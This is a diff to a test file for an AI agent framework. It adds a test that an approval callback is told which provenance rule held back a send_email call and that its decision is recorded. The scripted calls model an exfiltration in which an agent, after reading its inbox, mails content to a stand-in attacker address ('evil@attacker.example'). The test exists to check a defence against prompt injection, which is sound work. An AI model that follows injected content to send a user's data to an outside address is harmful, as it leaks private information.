@@ -8,6 +8,7 @@ from sglang_ds41.agents import (
     Agent,
     AgentConfigError,
     ApproveCalls,
+    ApproveWith,
     Policies,
     ProcessExecutor,
     Runner,
@@ -79,6 +80,34 @@ def test_an_approver_can_grant_the_held_back_call(serve):
     agent = mail_agent(outbox, approval=ApproveCalls([("send_email", call)]))
     run(agent, serve, [("read_inbox", {}), ("send_email", call)])
     assert outbox == [("evil@attacker.example", "the notes")]
+
+
+def test_the_approver_is_told_which_rule_holds_the_call_back_and_its_answer_is_kept(serve):
+    outbox: list = []
+    asked = []
+
+    def decide(name, arguments, why):
+        asked.append((name, why.rule, str(why)))
+        return arguments["to"] == "alice@example.com"
+
+    agent = mail_agent(outbox, approval=ApproveWith(decide))
+    script = [Reply(tool_calls=[c]) for c in script_calls()]
+    server = serve(by_turn([*script, Reply(content="done")]), validate=False)
+    result = Runner.run_sync(agent, "Reply yes to alice@example.com.", base_url=server.base_url)
+    assert outbox == []
+    ((name, rule, message),) = asked
+    assert (name, rule) == ("send_email", "quoted name")
+    assert "to='evil@attacker.example'" in message and "output of read_inbox" in message
+    assert [(a["name"], a["rule"], a["granted"]) for a in result.approvals] == [
+        ("send_email", "quoted name", False)
+    ]
+    # Two-argument callbacks (the older form) still work.
+    run(mail_agent(outbox, approval=ApproveWith(lambda name, arguments: True)), serve, script_calls())
+    assert outbox == [("evil@attacker.example", "n")]
+
+
+def script_calls() -> list:
+    return [("read_inbox", {}), ("send_email", {"to": "evil@attacker.example", "body": "n"})]
 
 
 def test_without_provenance_every_guarded_call_needs_approval(serve):
